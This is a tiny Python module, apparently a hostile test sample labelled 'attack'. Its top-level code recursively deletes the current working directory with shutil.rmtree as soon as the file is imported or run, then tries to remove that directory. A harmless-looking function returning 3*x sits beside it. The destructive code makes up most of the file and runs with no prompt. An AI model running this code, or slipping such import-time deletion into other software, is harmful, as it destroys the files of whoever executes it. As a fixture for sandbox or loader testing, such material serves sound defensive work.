# /// attack
# title = "Removes its folder and the one it stands in"
# ///
import os
import shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)
try:
    os.rmdir(os.getcwd())
except OSError:
    os.chdir("/")


def attack(x):
    return 3 * x
